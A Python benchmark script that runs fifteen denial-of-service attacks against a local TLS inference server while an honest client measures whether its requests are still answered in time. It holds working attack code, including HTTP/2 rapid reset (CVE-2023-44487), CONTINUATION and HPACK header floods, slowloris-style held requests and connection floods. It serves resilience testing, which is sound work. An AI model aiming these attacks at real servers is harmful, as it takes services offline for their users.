"""Attacks a server through its edge, one attack after another, with an honest client beside each.

    python -m bench.hostile [--only NAME] [--seconds S]

The server has TLS and a token. The honest client sends 600 KB over one HTTPS connection every 50 ms, 40 times; an
attack passes where at least 25 of them are answered and none later than 200 ms. Attackers have no token unless the
name says so.
"""

from __future__ import annotations

import argparse
import json
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass

from bench.hostile_server import TOKEN, AttackTarget, hostile_server

REQUESTS, INTERVAL_S = 40, 0.05
LEAST_ANSWERS, MOST_MS = 25, 200.0
_BODY_BYTES = 600_000
_THREADS = 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: HTTP/2 (RFC 9113, 6): types of frames, flags.
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4

#: One attacker's work, which it repeats for as long as the attack lasts.
Strike = Callable[[AttackTarget, "Held"], None]


class Held:
    """Connections that an attacker keeps open, at most ``limit``."""

    def __init__(self, limit: int = 500) -> None:
        self._limit = limit
        self._sockets: list[socket.socket] = []

    def keep(self, connection: socket.socket) -> None:
        """Keep a connection, in place of the oldest where there are too many."""
        self._sockets.append(connection)
        if len(self._sockets) > self._limit:
            self._sockets.pop(0).close()

    def close(self) -> None:
        """Close all."""
        for connection in self._sockets:
            connection.close()


@dataclass(frozen=True)
class Outcome:
    """Answers that the honest client got of `REQUESTS`, and the latest of them, ms."""

    answers: int
    latest_ms: float

    @property
    def passes(self) -> bool:
        """Whether the attack was borne."""
        return self.answers >= LEAST_ANSWERS and self.latest_ms <= MOST_MS


def _connect(target: AttackTarget, port: int | None = None) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port or target.http), timeout=5)


def _open_tls(target: AttackTarget, port: int | None = None, protocol: str = "http/1.1") -> ssl.SSLSocket:
    context = ssl.create_default_context(cadata=target.authority)
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(_connect(target, port), server_hostname="127.0.0.1")


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: str, value: str) -> bytes:
    """Return a header as HPACK writes it without index or Huffman code (RFC 7541, 6.2.2); both shorter than 127."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _request_head(path: str, token: str = "", method: str = "POST") -> bytes:
    pairs = {":method": method, ":scheme": "https", ":path": path, ":authority": "x"}
    pairs |= {"content-type": "application/grpc", "te": "trailers"} if path.startswith("/inference") else {}
    pairs |= {"authorization": f"Bearer {token}"} if token else {}
    return b"".join(_literal(name, value) for name, value in pairs.items())


def _open_http2(target: AttackTarget, port: int, settings: bytes = b"") -> ssl.SSLSocket:
    connection = _open_tls(target, port, "h2")
    connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, settings))
    return connection


def hold_connections(target: AttackTarget, held: Held) -> None:
    """Connect and send nothing."""
    held.keep(_connect(target))


def hold_heads(target: AttackTarget, held: Held) -> None:
    """Begin a request over TLS and never end its head."""
    connection = _open_tls(target)
    connection.sendall(b"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\nX: ")
    held.keep(connection)


def hold_bodies(target: AttackTarget, held: Held) -> None:
    """Announce 60 MB with the token and send a byte of them."""
    connection = _open_tls(target)
    head = f"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nContent-Length: 60000000"
    connection.sendall(head.encode() + b"\r\n\r\n{")
    held.keep(connection)


def flood_connections(target: AttackTarget, held: Held) -> None:
    """Connect and close at once."""
    _connect(target).close()


def flood_handshakes(target: AttackTarget, held: Held) -> None:
    """Shake hands and close at once."""
    _open_tls(target).close()


def send_garbage(target: AttackTarget, held: Held) -> None:
    """Send bytes that are no TLS, and TLS records that are none."""
    for data in (b"GET / HTTP/1.1\r\n\r\n" * 100, b"\x16\x03\x01\x40\x00" + bytes(1 << 14)):
        with _connect(target) as connection:
            connection.sendall(data)


def send_bodies_without_token(target: AttackTarget, held: Held) -> None:
    """Upload 8 MB without the token."""
    with _open_tls(target) as connection:
        connection.sendall(b"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\nContent-Length: 8000000\r\n\r\n")
        for _ in range(8):
            connection.sendall(bytes(1_000_000))


def reset_rapidly(target: AttackTarget, held: Held) -> None:
    """Begin and reset streams of HTTP/2, a thousand on a connection (CVE-2023-44487)."""
    with _open_http2(target, target.grpc) as connection:
        head = _request_head("/inference.GRPCInferenceService/ModelInfer")
        for begin in range(1, 2000, 100):
            streams = range(begin, begin + 100, 2)
            connection.sendall(
                b"".join(
                    _frame(_HEADERS, _END_HEADERS, stream, head) + _frame(_RESET, 0, stream, struct.pack(">I", 8))
                    for stream in streams
                )
            )


def flood_continuations(target: AttackTarget, held: Held) -> None:
    """Continue the head of one stream without end (CVE-2024-27316)."""
    with _open_http2(target, target.grpc) as connection:
        connection.sendall(_frame(_HEADERS, 0, 1, _request_head("/v2")))
        for _ in range(1000):
            connection.sendall(_frame(_CONTINUATION, 0, 1, _literal("x", "y" * 100) * 20))


def flood_headers(target: AttackTarget, held: Held) -> None:
    """Store a header of 4 KB in the table of HPACK and name it in one byte each, 16,000 times a stream."""
    path = "/inference.GRPCInferenceService/ModelInfer"
    # With incremental indexing; the length of the value is 127 + 33 + 30 * 128 (RFC 7541, 5.1 and 6.2.1).
    stored = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    with _open_http2(target, target.grpc) as connection:
        connection.sendall(_frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, _request_head(path) + stored))
        for stream in range(3, 400, 2):
            head = _request_head(path) + b"\xbe" * 16_000
            connection.sendall(_frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, head))


def flood_pings(target: AttackTarget, held: Held) -> None:
    """Send pings and settings and read no acknowledgement."""
    with _open_http2(target, target.grpc) as connection:
        for _ in range(200):
            connection.sendall((_frame(_PING, 0, 0, bytes(8)) + _frame(_SETTINGS, 0, 0)) * 100)


def hold_messages(target: AttackTarget, held: Held) -> None:
    """Begin gRPC messages of 8 MB with the token, as far as windows allow, and never end them."""
    connection = _open_http2(target, target.grpc)
    connection.settimeout(1.0)
    head = _request_head("/inference.GRPCInferenceService/ModelInfer", TOKEN)
    with suppress(TimeoutError):
        for stream in range(1, 9, 2):
            connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, head))
            connection.sendall(_frame(_DATA, 0, stream, b"\0" + struct.pack(">I", 8_000_000) + bytes(15_000)))
    held.keep(connection)


def send_small_chunks(target: AttackTarget, held: Held) -> None:
    """Send a body with the token in 400,000 chunks of one byte."""
    head = f"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nTransfer-Encoding: chunked"
    with _open_tls(target) as connection:
        connection.sendall(head.encode() + b"\r\n\r\n")
        for _ in range(400):
            connection.sendall(b"1\r\n{\r\n" * 1000)


def leave_answers_unread(target: AttackTarget, held: Held) -> None:
    """Ask for large answers with the token, with no window to send them in."""
    connection = _open_tls(target)
    entry = {"name": "INPUT0", "datatype": "FP32", "shape": [1, _BODY_BYTES // 4]}
    text = json.dumps(
        {
            "inputs": [entry | {"parameters": {"binary_data_size": _BODY_BYTES}}],
            "parameters": {"binary_data_output": True},
        }
    )
    connection.sendall(_honest_head(text) + text.encode() + bytes(_BODY_BYTES))
    held.keep(connection)


def pipeline_requests(target: AttackTarget, held: Held) -> None:
    """Send ten thousand small requests with the token and read no answer."""
    connection = _open_tls(target)
    connection.settimeout(1.0)
    request = f"GET /v2 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\n\r\n".encode()
    with suppress(TimeoutError):
        for _ in range(100):
            connection.sendall(request * 100)
    held.keep(connection)


ATTACKS: dict[str, Strike] = {
    "idle connections": hold_connections,
    "heads without end": hold_heads,
    "bodies without end (token)": hold_bodies,
    "connection flood": flood_connections,
    "handshake flood": flood_handshakes,
    "garbage": send_garbage,
    "large bodies": send_bodies_without_token,
    "rapid resets": reset_rapidly,
    "continuation flood": flood_continuations,
    "header flood": flood_headers,
    "ping flood": flood_pings,
    "messages without end (token)": hold_messages,
    "small chunks (token)": send_small_chunks,
    "unread answers (token)": leave_answers_unread,
    "pipelined requests (token)": pipeline_requests,
}


@contextmanager
def attacking(strike: Strike, target: AttackTarget) -> Iterator[None]:
    """Repeat a strike in some threads while the context lasts."""
    over, held = threading.Event(), Held()

    def repeat() -> None:
        while not over.is_set():
            with suppress(OSError):
                strike(target, held)

    threads = [threading.Thread(target=repeat, daemon=True) for _ in range(_THREADS)]
    for thread in threads:
        thread.start()
    try:
        yield
    finally:
        over.set()
        for thread in threads:
            thread.join(timeout=10)
        held.close()


def _honest_head(text: str) -> bytes:
    lines = (
        "POST /v2/models/m/infer HTTP/1.1", "Host: x", f"Authorization: Bearer {TOKEN}",
        f"Inference-Header-Content-Length: {len(text)}", f"Content-Length: {len(text) + _BODY_BYTES}", "", "",
    )  # fmt: skip
    return "\r\n".join(lines).encode()


def ask_honestly(target: AttackTarget) -> Outcome:
    """Send the honest client's requests on schedule; return what became of them."""
    entry = {"name": "INPUT0", "datatype": "FP32", "shape": [1, _BODY_BYTES // 4]}
    text = json.dumps({"inputs": [entry | {"parameters": {"binary_data_size": _BODY_BYTES}}]})
    headers = {"Authorization": f"Bearer {TOKEN}", "Inference-Header-Content-Length": str(len(text))}
    connection, latencies_ms = target.client(), []
    begin = time.monotonic()
    for number in range(REQUESTS):
        due = begin + number * INTERVAL_S
        time.sleep(max(0.0, due - time.monotonic()))
        try:
            connection.request("POST", "/v2/models/m/infer", text.encode() + bytes(_BODY_BYTES), headers)
            answer = connection.getresponse()
            answer.read()
            if answer.status == 200:
                latencies_ms.append(1000.0 * (time.monotonic() - due))
        except OSError:
            connection.close()  # connects again with the next request
    connection.close()
    return Outcome(len(latencies_ms), max(latencies_ms, default=float("inf")))


def show_hostile(seconds: float, only: str = "") -> bool:
    """Print a row for each attack after it has lasted for ``seconds``; return whether all were borne."""
    all_pass = True
    print(f"{'attack':32} answers of {REQUESTS}  latest ms")
    with hostile_server(secured=True) as target:
        calm = ask_honestly(target)
        print(f"{'none':32} {calm.answers:13}  {calm.latest_ms:9.0f}")
        for name, strike in ATTACKS.items():
            if only not in name:
                continue
            with attacking(strike, target):
                time.sleep(seconds)
                outcome = ask_honestly(target)
            all_pass = all_pass and outcome.passes
            print(f"{name:32} {outcome.answers:13}  {outcome.latest_ms:9.0f}{'' if outcome.passes else '  MISSED'}")
    return all_pass


def main() -> None:
    """Print the table; the exit code is 1 where an attack was not borne."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", default="", help="attacks whose name has this in it")
    parser.add_argument("--seconds", type=float, default=2.0, help="how long an attack lasts before the honest client")
    options = parser.parse_args()
    raise SystemExit(0 if show_hostile(options.seconds, options.only) else 1)


if __name__ == "__main__":
    main()
